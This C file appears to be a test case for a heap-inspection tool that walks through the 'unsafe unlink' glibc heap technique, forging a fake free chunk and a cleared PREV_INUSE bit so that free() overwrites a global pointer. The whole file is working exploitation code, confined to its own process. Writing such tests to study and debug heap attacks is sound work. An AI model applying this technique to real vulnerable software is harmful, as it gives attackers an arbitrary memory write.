/* expect: exit 0
 * Unsafe unlink: a fake free chunk inside chunk0 whose fd/bk point around a global that holds
 * chunk0's address, so both unlink checks hold; freeing chunk1 (PREV_INUSE cleared, prev_size
 * forged) unlinks the fake chunk and the global ends up pointing at itself minus 24 bytes. */
#include "attack.h"

/* What the staged free() is about to free, for `heap check --free pending_free`. */
void *volatile pending_free;

int main(void)
{
	attack_begin();
	size_t *chunk0 = malloc(0x3f8);
	char *chunk1 = malloc(0x418);
	char *guard = malloc(24);
	show("chunk0", chunk0);
	show("chunk1", chunk1);
	show("guard", guard);
	target_area[4] = (size_t)chunk0; /* the global pointer the attack rewrites */
	chunk0[0] = 0;
	chunk0[1] = 0x3f0;                   /* fake chunk at chunk0, ending at chunk1 */
	chunk0[2] = (size_t)&target_area[1]; /* fd->bk is target_area[4] */
	chunk0[3] = (size_t)&target_area[2]; /* bk->fd is target_area[4] */
	chunk_words(chunk1)[0] = 0x3f0;
	chunk_words(chunk1)[1] &= ~(size_t)1;
	pending_free = chunk1;
	attack_staged("free(chunk1) unlinks the fake chunk");
	free(chunk1);
	show("global pointer", (void *)target_area[4]);
	return 0;
}
